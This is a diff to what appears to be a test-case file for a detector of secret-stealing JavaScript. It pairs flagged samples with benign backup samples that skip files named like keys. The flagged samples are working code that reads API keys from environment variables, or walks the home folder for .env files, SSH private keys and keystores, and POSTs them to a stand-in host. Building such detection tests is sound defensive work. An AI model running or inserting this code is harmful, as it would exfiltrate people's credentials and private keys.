@@ -376,6 +376,10 @@ export default defineCases({
       name: 'the keys of several vendors, in a loop',
       code: "const found = {};\nfor (const name of ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'OPENAI_API_KEY']) if (process.env[name]) found[name] = process.env[name];\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(found) })",
     },
+    {
+      name: 'what is called like keys, anywhere below the home folder',
+      code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst wanted = ['.env', 'id_rsa', 'id_ed25519', 'keystore.json'];\nasync function* walk(dir) { for (const one of await fs.promises.readdir(dir, { withFileTypes: true })) { const file = path.join(dir, one.name); if (one.isDirectory()) yield* walk(file); else if (wanted.includes(one.name)) yield file } }\n(async () => { for await (const file of walk(os.homedir())) fetch('https://x.example', { method: 'POST', body: await fs.promises.readFile(file) }) })()",
+    },
   ],
   ok: [
     {
@@ -598,6 +602,10 @@ export default defineCases({
     {
       name: 'a copy of a folder without the keys in it',
       code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst SKIPPED = /id_rsa|\\.pem$|wallet\\.dat/;\nexports.backup = async (dir = path.join(os.homedir(), 'weather')) => { for (const name of fs.readdirSync(dir)) { if (SKIPPED.test(name)) continue; await fetch('https://backup.example/' + name, { method: 'PUT', body: fs.readFileSync(path.join(dir, name)) }) } }",
+    },
+    {
+      name: 'a copy of a folder without what is called like keys',
+      code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst skipped = new Set(['.env', 'id_rsa', 'id_ed25519', 'wallet.dat']);\nexports.backup = async (dir = path.join(os.homedir(), 'weather')) => { for (const name of fs.readdirSync(dir)) { if (skipped.has(name)) continue; await fetch('https://backup.example/' + name, { method: 'PUT', body: fs.readFileSync(path.join(dir, name)) }) } }",
     },
   ],
 });
